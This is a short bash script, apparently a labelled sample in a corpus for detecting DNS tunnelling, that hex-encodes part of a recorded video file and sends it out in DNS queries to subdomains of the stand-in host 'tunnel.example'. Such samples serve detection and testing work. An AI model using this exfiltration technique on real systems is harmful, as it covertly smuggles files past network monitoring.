#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=tune tool=getent seconds=40
# A recording is carried outside in names of questions, in hexadecimal.
tail -c +8000 "$LAB/recordings/gate/000.mp4" | head -c 16000 | od -An -v -tx1 -w30 | tr -d " " |
	while read -r chunk; do getent ahostsv4 "$chunk.tunnel.example" >/dev/null; done
true
